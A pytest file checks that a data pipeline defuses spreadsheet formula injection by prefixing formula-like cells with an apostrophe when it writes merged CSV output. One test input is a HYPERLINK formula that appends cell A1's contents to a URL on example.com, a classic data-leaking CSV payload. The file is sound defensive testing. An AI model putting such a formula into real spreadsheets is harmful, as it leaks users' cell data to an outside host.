from __future__ import annotations

import csv

import pytest

from reviewsum_assets.checkpoints.merge import as_text, merge_checkpoints
from reviewsum_assets.lake_state import verify_lake
from reviewsum_assets.storage import places
from reviewsum_assets.storage.lake import Lake
from tests.support.checkpoints import complete, plan_products

COMMAND = '=HYPERLINK("http://example.com?"&A1,"more, here")'


@pytest.mark.parametrize(
    "cell",
    ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1"],  # noqa: RUF001
)
def test_what_begins_like_a_formula_is_made_a_text(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "B001", "Good = cheap", "'=1", "5-star"])
def test_other_texts_stay_as_they_are(cell: str) -> None:
    assert as_text(cell) == cell


def test_formulas_stay_in_the_table_and_leave_that_for_spreadsheets(any_lake: Lake) -> None:
    plan = plan_products(any_lake, {"-P1": "text", "P2": "text"}).plan
    complete(any_lake, plan, texts={"-P1": COMMAND, "P2": "Café, good."})
    merge_checkpoints(any_lake, plan, spreadsheet=True)
    found = (any_lake.get(places.MERGED_SPREADSHEET) or b"").decode("utf-8-sig")
    assert list(csv.reader(found.splitlines()))[1:] == [
        ["'-P1", f"'{COMMAND}", "1000"],
        ["P2", "Café, good.", "999"],
    ]
    assert b"\n-P1,=HYPERLINK".replace(b"=", b'"=') in (any_lake.get(places.MERGED_CSV) or b"")
    assert verify_lake(any_lake) == []


def test_a_table_for_spreadsheets_is_verified_and_does_not_outlive_the_next_merge(
    lake: Lake,
) -> None:
    plan = plan_products(lake, {"P1": "text"}).plan
    complete(lake, plan)
    merge_checkpoints(lake, plan, spreadsheet=True)
    lake.put(places.MERGED_SPREADSHEET, b"changed")
    (problem,) = verify_lake(lake)
    assert problem.startswith(f"{places.MERGED_SPREADSHEET} is not the file that was merged")
    merge_checkpoints(lake, plan)
    assert lake.head(places.MERGED_SPREADSHEET) is None
    assert verify_lake(lake) == []
